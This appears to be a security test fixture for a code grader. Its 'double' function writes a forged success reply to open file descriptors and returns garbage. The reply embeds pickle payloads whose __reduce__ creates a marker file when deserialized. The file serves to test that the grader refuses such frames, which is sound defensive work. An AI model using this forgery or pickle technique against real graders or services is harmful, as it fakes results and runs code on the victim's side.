"""Attack: write a forged reply frame to every file descriptor 3..30, then return garbage.

The frame is well formed (length-prefixed JSON header with blob sizes, as the grader's wire
format) and claims success, but its arrays are a pickled object-dtype .npy whose objects create
the marker file named in probe.json when unpickled, and a raw pickle of the same. The grader must
refuse it without unpickling anything.
"""

import io
import json
import os
import pickle
import struct

import numpy as np


def _marker() -> str:
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probe.json")) as stream:
        return json.load(stream)["marker"]


class Payload:
    def __reduce__(self):
        return (open, (_marker(), "w"))


def _frame() -> bytes:
    stream = io.BytesIO()
    objects = np.empty(3, dtype=object)
    objects[:] = [Payload(), Payload(), Payload()]
    np.save(stream, objects, allow_pickle=True)
    blobs = [stream.getvalue(), pickle.dumps(Payload())]
    header = json.dumps({
        "status": "ok",
        "value": {"t": "tuple", "items": [{"t": "array", "i": 0}, {"t": "array", "i": 1}]},
        "seconds": 0.0,
        "modified_args": [],
        "warnings": [],
        "blob_sizes": [len(blob) for blob in blobs],
    }).encode()
    return struct.pack("<I", len(header)) + header + b"".join(blobs)


def double(x):
    frame = _frame()
    targets = []
    for fd in range(3, 31):
        try:
            targets.append(f"{fd}:{os.readlink(f'/proc/self/fd/{fd}')}")
        except OSError:
            pass
    # Said before writing: once a forged frame is read, the grader may stop this worker at once.
    print("PROBE writing to " + " ".join(targets), flush=True)
    for fd in range(3, 31):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return "garbage"


def honest_double(x):
    return 2 * x
